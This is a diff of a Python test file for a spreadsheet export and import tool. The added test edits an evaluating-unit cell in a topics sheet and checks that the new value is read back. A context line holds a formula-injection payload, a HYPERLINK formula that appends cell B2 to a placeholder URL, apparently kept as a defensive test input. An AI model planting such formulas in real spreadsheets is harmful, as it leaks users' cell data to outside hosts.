@@ -221,6 +221,19 @@ def test_a_row_with_an_unknown_name_also_reports_its_other_reasons(repo: Path, t
     assert any("王某" in line for line in lines) and any("马上改" in line for line in lines) and any("abc" in line for line in lines), ran.err
     assert snapshot(repo) == before
 
+
+def test_the_evaluating_unit_is_shown_and_read_back_by_name(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    book = load_workbook(_export(capsys, repo, tmp_path / "t.xlsx", "--kind", "topics"))
+    sheet = book["调研课题"]
+    column = _column(sheet, "评审·评审单位或人")
+    assert sheet.cell(row=_row(sheet, "T-004"), column=column).value == "市委宣传部"
+    sheet.cell(row=_row(sheet, "T-004"), column=column).value = "市委组织部"
+    book.save(tmp_path / "back.xlsx")
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 0, ran.err
+    topics = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("topic")}
+    assert topics["T-004"].evaluation.by == "zzb"  # type: ignore[attr-defined]
+
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
 
 
